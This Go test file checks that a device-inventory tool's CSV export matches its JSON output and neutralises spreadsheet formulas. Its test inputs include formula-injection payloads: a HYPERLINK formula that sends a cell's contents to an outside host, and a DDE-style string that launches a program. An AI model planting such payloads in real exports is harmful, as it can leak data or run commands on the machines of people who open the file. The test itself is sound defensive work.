package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/muster-project/muster/internal/inventory"
	"github.com/muster-project/muster/internal/testneed"
)

// readCSV reads CSV as Python does, undoes what keeps spreadsheets from taking a text for a formula (decision 80), and
// prints JSON: a list of rows by field.
const readCSV = `
import csv, json, sys
rows = list(csv.DictReader(sys.stdin, strict=True))
json.dump([{k: v[1:] if v.startswith("'") else v for k, v in r.items()} for r in rows], sys.stdout)
`

// For every list, what Python reads of --csv has the rows of --json, whatever devices and software are called. No cell
// is a formula.
func TestCSVHasTheRowsOfJSONInPython(t *testing.T) {
	python := testneed.Command(t, "python3")
	s := newSite(t)
	s.muster("demo", "--once", "--days", "1", "--devices", "3")
	for i, name := range []string{`=HYPERLINK("http://example.com?"&A1;"x")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+1 (555) 0100", "-2+3", "'quoted",
		`a "b", c`, "-1.5", "＝1+1"} {
		s.report(&inventory.Report{Device: inventory.Device{Name: name, OSPlatform: "Linux", Tags: []string{name, "two"}},
			Software: []inventory.Software{{Kind: "generic", Vendor: name, Name: name, Version: strconv.Itoa(i)}}})
	}
	s.muster("publish")
	for _, list := range []string{"findings", "software", "devices", "recommendations", "configurations", "changes"} {
		text := s.muster(list, "--csv")
		run := exec.CommandContext(t.Context(), python, "-c", readCSV)
		run.Stdin = strings.NewReader(text)
		out, err := run.Output()
		if err != nil {
			t.Fatalf("%s: %v", list, err)
		}
		var cells []map[string]string
		if err := json.Unmarshal(out, &cells); err != nil {
			t.Fatal(err)
		}
		var rows []map[string]any
		for line := range strings.Lines(s.muster(list, "--json")) {
			var row map[string]any
			decoder := json.NewDecoder(bytes.NewReader([]byte(line)))
			decoder.UseNumber()
			if err := decoder.Decode(&row); err != nil {
				t.Fatal(err)
			}
			rows = append(rows, row)
		}
		if len(cells) != len(rows) || len(rows) == 0 {
			t.Fatalf("%s: %d rows of CSV, %d of JSON", list, len(cells), len(rows))
		}
		for i := range rows {
			for field, got := range cells[i] {
				if want := valueIn(rows[i], field); !sameValue(got, want) {
					t.Fatalf("%s, row %d, %s: %q, in JSON %q", list, i, field, got, want)
				}
			}
		}
		for line := range strings.Lines(text) {
			for cell := range strings.SplitSeq(line, ",") {
				if cell = strings.TrimPrefix(cell, `"`); cell != "" && strings.ContainsAny(cell[:1], "=@+-") && cell != "-1.5" {
					t.Errorf("%s has the formula %s", list, cell)
				}
			}
		}
	}
}

// valueIn is the text of a field of a row, as CSV has it: lists are joined, and severities are counted in a member.
func valueIn(row map[string]any, field string) string {
	if counted := []string{"critical", "high", "medium", "low", "unrated"}; slices.Contains(counted, field) {
		for _, of := range []string{"severities", "findings"} {
			if inner, ok := row[of].(map[string]any); ok {
				return fmt.Sprint(inner[field])
			}
		}
	}
	if inner, ok := row["reasons"].(map[string]any); ok && row[field] == nil && inner[field] != nil {
		return fmt.Sprint(inner[field])
	}
	switch value := row[field].(type) {
	case nil:
		return ""
	case []any:
		var all []string
		for _, one := range value {
			if inner, ok := one.(map[string]any); ok { // an update, or a version
				for _, name := range []string{"title", "id", "url", "version"} {
					if inner[name] != nil {
						one = inner[name]
						break
					}
				}
			}
			all = append(all, fmt.Sprint(one))
		}
		return strings.Join(all, "; ")
	case map[string]any: // an operating system
		if version := fmt.Sprint(value["osVersion"]); version != "" {
			return version
		}
		return fmt.Sprint(value["title"])
	default:
		return fmt.Sprint(value)
	}
}

// sameValue reports whether a cell has a value: numbers are compared as such, and false, 0 and nothing are one.
func sameValue(cell, value string) bool {
	if cell == value {
		return true
	}
	a, errA := strconv.ParseFloat(cell, 64)
	b, errB := strconv.ParseFloat(value, 64)
	return errA == nil && errB == nil && a == b || value == "" && cell == "false"
}
